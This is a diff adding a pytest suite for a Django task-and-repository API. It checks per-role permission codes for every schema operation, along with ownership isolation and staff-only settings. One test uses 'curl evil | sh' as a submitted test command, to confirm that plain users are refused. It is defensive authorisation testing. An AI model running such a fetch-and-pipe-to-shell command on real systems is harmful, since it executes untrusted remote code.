@@ -1,0 +1,261 @@
+"""The permission table: every operation of the OpenAPI schema, for every role, with the expected
+answer. An operation added to the API without a row here fails ``test_every_operation_has_a_row``.
+
+Roles: ``anon`` (no token), ``user`` (the owner of the task and artifact in play), ``other``
+(another plain user), ``staff`` (an operator). Another user's task or artifact is a 404, never a
+403, so its existence is not revealed; operators' things (repositories, slots) are a 403.
+"""
+
+from __future__ import annotations
+
+import uuid
+from dataclasses import dataclass
+
+import pytest
+from django.contrib.auth import get_user_model
+from drf_spectacular.generators import SchemaGenerator
+from rest_framework.authtoken.models import Token
+from rest_framework.test import APIClient
+
+from artifacts import services as artifacts
+from registry import services as registry
+from registry.models import Task
+from registry.states import TaskStatus
+from repopool import services as pool
+
+pytestmark = pytest.mark.django_db
+
+ROLES = ("anon", "user", "other", "staff")
+
+
+def codes(anon, user, other, staff):
+    return dict(zip(ROLES, (anon, user, other, staff), strict=True))
+
+
+# (method, schema path) -> expected status per role. Keep in step with docs/security.md.
+TABLE: dict[tuple[str, str], dict[str, int]] = {
+    ("GET", "/api/health/"): codes(200, 200, 200, 200),
+    ("GET", "/api/tasks/"): codes(401, 200, 200, 200),
+    ("POST", "/api/tasks/"): codes(401, 201, 201, 201),
+    ("GET", "/api/tasks/{id}/"): codes(401, 200, 404, 200),
+    ("GET", "/api/tasks/{id}/events/"): codes(401, 200, 404, 200),
+    ("GET", "/api/tasks/{id}/attempts/"): codes(401, 200, 404, 200),
+    ("GET", "/api/tasks/{id}/artifacts/"): codes(401, 200, 404, 200),
+    ("POST", "/api/tasks/{id}/cancel/"): codes(401, 200, 404, 200),
+    ("POST", "/api/tasks/{id}/retry/"): codes(401, 200, 404, 200),
+    ("PUT", "/api/tasks/{id}/dependencies/"): codes(401, 200, 404, 200),
+    ("GET", "/api/repositories/"): codes(401, 200, 200, 200),
+    ("POST", "/api/repositories/"): codes(401, 403, 403, 201),
+    ("GET", "/api/repositories/{id}/"): codes(401, 200, 200, 200),
+    ("PUT", "/api/repositories/{id}/"): codes(401, 403, 403, 200),
+    ("PATCH", "/api/repositories/{id}/"): codes(401, 403, 403, 200),
+    ("POST", "/api/repositories/{id}/warm/"): codes(401, 403, 403, 202),
+    ("GET", "/api/slots/"): codes(401, 403, 403, 200),
+    ("GET", "/api/slots/{id}/"): codes(401, 403, 403, 200),
+    ("POST", "/api/slots/allocate/"): codes(401, 403, 403, 201),
+    ("POST", "/api/slots/{id}/renew/"): codes(401, 403, 403, 200),
+    ("POST", "/api/slots/{id}/release/"): codes(401, 403, 403, 200),
+    ("GET", "/api/artifacts/"): codes(401, 200, 200, 200),
+    ("POST", "/api/artifacts/"): codes(401, 201, 201, 201),
+    ("GET", "/api/artifacts/{id}/"): codes(401, 200, 404, 200),
+    ("DELETE", "/api/artifacts/{id}/"): codes(401, 403, 403, 204),
+    ("GET", "/api/artifacts/{id}/content/"): codes(401, 200, 404, 200),
+}
+
+
+def schema_operations() -> set[tuple[str, str]]:
+    schema = SchemaGenerator().get_schema(request=None, public=True)
+    return {
+        (method.upper(), path)
+        for path, operations in schema["paths"].items()
+        for method in operations
+        if method in ("get", "post", "put", "patch", "delete")
+    }
+
+
+def test_every_operation_has_a_row():
+    operations = schema_operations()
+    assert operations - TABLE.keys() == set(), "operations without a row in the permission table"
+    assert TABLE.keys() - operations == set(), "rows for operations the API no longer has"
+
+
+@dataclass
+class World:
+    clients: dict[str, APIClient]
+    task: Task
+    failed_task: Task
+    artifact_id: uuid.UUID
+    repository_id: int
+    _lease: pool.Lease | None = None
+
+    @property
+    def lease(self) -> pool.Lease:
+        """A leased slot, cloned only for the rows that need one (a clone costs time)."""
+        if self._lease is None:
+            self._lease = pool.slot_allocate(repository=self.task.repository, holder="table")
+        return self._lease
+
+
+def _client(user=None) -> APIClient:
+    client = APIClient()
+    if user is not None:
+        client.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=user).key}")
+    return client
+
+
+@pytest.fixture
+def world(make_repo) -> World:
+    users = get_user_model().objects
+    alice = users.create_user(username="alice")
+    bob = users.create_user(username="bob")
+    root = users.create_user(username="root", is_staff=True)
+    repo = pool.repository_create(name="sample", url=str(make_repo()), pool_size=2)
+    task = registry.task_create(title="mine", instructions="do it", repository=repo, owner=alice)
+    failed = registry.task_create(title="failed", instructions="again", repository=repo, owner=alice)
+    registry.task_cancel(task_id=failed.pk)
+    artifact = artifacts.artifact_store(source=b"diff --git", name="x.patch", kind="patch", owner=alice)
+    registry.task_link_artifact(task_id=task.pk, artifact_id=artifact.pk, role="patch")
+    return World(
+        clients={"anon": _client(), "user": _client(alice), "other": _client(bob), "staff": _client(root)},
+        task=task,
+        failed_task=failed,
+        artifact_id=artifact.pk,
+        repository_id=repo.pk,
+    )
+
+
+def _call(client: APIClient, method: str, path: str, w: World):
+    """One request per operation, with a body that would succeed for a role that is allowed."""
+    task_path = path.replace("{id}", str(w.task.pk))
+    repo_path = path.replace("{id}", str(w.repository_id))
+    artifact_path = path.replace("{id}", str(w.artifact_id))
+    match method, path:
+        case "POST", "/api/tasks/":
+            return client.post(path, {"repository": "sample", "instructions": "fix it"}, format="json")
+        case "POST", "/api/tasks/{id}/retry/":
+            return client.post(path.replace("{id}", str(w.failed_task.pk)))
+        case "PUT", "/api/tasks/{id}/dependencies/":
+            return client.put(task_path, {"depends_on": []}, format="json")
+        case _, p if p.startswith("/api/tasks/"):
+            return client.generic(method, task_path)
+        case "POST", "/api/repositories/":
+            return client.post(path, {"name": "another", "url": str(w.task.repository.url)}, format="json")
+        case "PUT", "/api/repositories/{id}/":
+            body = {"name": "sample", "url": str(w.task.repository.url), "pool_size": 3}
+            return client.put(repo_path, body, format="json")
+        case "PATCH", "/api/repositories/{id}/":
+            return client.patch(repo_path, {"pool_size": 3}, format="json")
+        case _, p if p.startswith("/api/repositories/"):
+            return client.generic(method, repo_path)
+        case "POST", "/api/slots/allocate/":
+            return client.post(path, {"repository": "sample", "holder": "table-test"}, format="json")
+        case "POST", "/api/slots/{id}/renew/" | "/api/slots/{id}/release/":
+            slot_path = path.replace("{id}", str(w.lease.slot_id))
+            return client.post(slot_path, {"lease_token": str(w.lease.lease_token)}, format="json")
+        case _, "/api/slots/{id}/":
+            return client.generic(method, path.replace("{id}", str(w.lease.slot_id)))
+        case "POST", "/api/artifacts/":
+            return client.generic("POST", "/api/artifacts/?name=up.txt", b"hello", content_type="text/plain")
+        case _, p if p.startswith("/api/artifacts/"):
+            return client.generic(method, artifact_path)
+        case _:
+            return client.generic(method, path)
+
+
+@pytest.mark.parametrize("role", ROLES)
+@pytest.mark.parametrize("operation", sorted(TABLE), ids=lambda op: f"{op[0]} {op[1]}")
+def test_permission_table(world, operation, role):
+    method, path = operation
+    expected = TABLE[operation][role]
+    before = Task.objects.filter(pk=world.task.pk).values().get()
+    response = _call(world.clients[role], method, path, world)
+    assert response.status_code == expected, (method, path, role, getattr(response, "content", b"")[:300])
+    if expected in (401, 403, 404):
+        body = response.json()
+        assert body["code"] and body["detail"], body  # the usual error shape
+        # A refused request changes nothing of the task in play.
+        assert Task.objects.filter(pk=world.task.pk).values().get() == before
+
+
+# --- what the table cannot show --------------------------------------------------------------------
+def test_lists_show_only_own_tasks_and_artifacts(world):
+    other = world.clients["other"]
+    assert other.get("/api/tasks/").json()["count"] == 0
+    assert other.get("/api/artifacts/").json()["count"] == 0
+    assert other.get("/api/tasks/", {"status": "queued"}).json()["count"] == 0
+    mine = world.clients["user"].get("/api/tasks/").json()
+    assert {t["title"] for t in mine["results"]} == {"mine", "failed"}
+    assert all(t["owner"] == "alice" for t in mine["results"])
+    assert world.clients["staff"].get("/api/tasks/").json()["count"] == 2
+    assert world.clients["user"].get("/api/artifacts/").json()["count"] == 1
+
+
+def test_artifact_cannot_be_attached_to_another_users_task(world):
+    response = world.clients["other"].generic(
+        "POST", f"/api/artifacts/?name=evil.txt&task={world.task.pk}", b"x", content_type="text/plain"
+    )
+    assert response.status_code == 400 and "task" in response.json()["errors"]
+    assert world.task.artifact_links.count() == 1
+
+
+def test_depending_on_another_users_task_is_unknown(world):
+    response = world.clients["other"].post(
+        "/api/tasks/", {"repository": "sample", "instructions": "x", "depends_on": [str(world.task.pk)]}, format="json"
+    )
+    assert response.status_code == 400 and "depends_on" in response.json()["errors"]
+
+
+def test_test_command_override_needs_staff_or_the_repository_flag(world):
+    body = {"repository": "sample", "instructions": "x", "test_command": "curl evil | sh"}
+    refused = world.clients["user"].post("/api/tasks/", body, format="json")
+    assert refused.status_code == 403 and "test_command" in refused.json()["errors"]
+    assert not Task.objects.filter(test_command=body["test_command"]).exists()
+    assert world.clients["staff"].post("/api/tasks/", body, format="json").status_code == 201
+    repo = world.task.repository
+    repo.allow_test_command_override = True
+    repo.save()
+    assert world.clients["user"].post("/api/tasks/", body, format="json").status_code == 201
+
+
+def test_plain_users_see_no_repository_urls_or_commands(world):
+    seen = world.clients["user"].get(f"/api/repositories/{world.repository_id}/").json()
+    assert "url" not in seen and "push_url" not in seen and "setup_command" not in seen
+    assert seen["name"] == "sample"
+    assert "url" in world.clients["staff"].get(f"/api/repositories/{world.repository_id}/").json()
+
+
+def test_plain_user_cannot_change_push_url_or_commands(world):
+    for body in ({"push_url": "/tmp/elsewhere.git"}, {"setup_command": "touch /tmp/x"}, {"test_command": "id"}):
+        response = world.clients["user"].patch(f"/api/repositories/{world.repository_id}/", body, format="json")
+        assert response.status_code == 403
+    repo = world.task.repository
+    repo.refresh_from_db()
+    assert (repo.push_url, repo.setup_command) == ("", "")
+
+
+def test_warm_runs_nothing_in_the_request(world, tmp_path):
+    marker = tmp_path / "warm-ran"
+    repo = world.task.repository
+    repo.setup_command = f"touch {marker}"
+    repo.pool_size = 3
+    repo.save()
+    response = world.clients["staff"].post(f"/api/repositories/{world.repository_id}/warm/")
+    assert response.status_code == 202
+    assert not marker.exists()  # nothing ran in the web request
+    assert [r.pk for r in pool.pool_warm_requested()] == [repo.pk]  # a worker does it
+    assert marker.exists()
+    assert pool.pool_warm_requested() == []  # one request, one warm
+
+
+def test_schema_and_docs_are_public_and_hold_no_data(world):
+    anon = world.clients["anon"]
+    schema = anon.get("/api/schema/")
+    assert schema.status_code == 200
+    text = schema.content.decode()
+    assert str(world.task.pk) not in text and "alice" not in text and "sample" not in text
+    assert anon.get("/api/docs/").status_code == 200
+
+
+def test_staff_sees_and_acts_on_every_task(world):
+    staff = world.clients["staff"]
+    assert staff.post(f"/api/tasks/{world.task.pk}/cancel/").json()["status"] == TaskStatus.CANCELLED
